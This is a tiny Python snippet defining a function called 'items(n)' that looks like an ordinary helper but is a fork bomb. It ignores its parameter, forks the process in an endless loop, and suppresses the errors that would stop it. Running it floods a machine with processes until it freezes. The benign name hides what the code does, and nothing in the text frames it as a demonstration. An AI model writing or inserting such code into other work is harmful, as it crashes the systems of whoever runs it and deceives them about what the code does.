def items(n):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
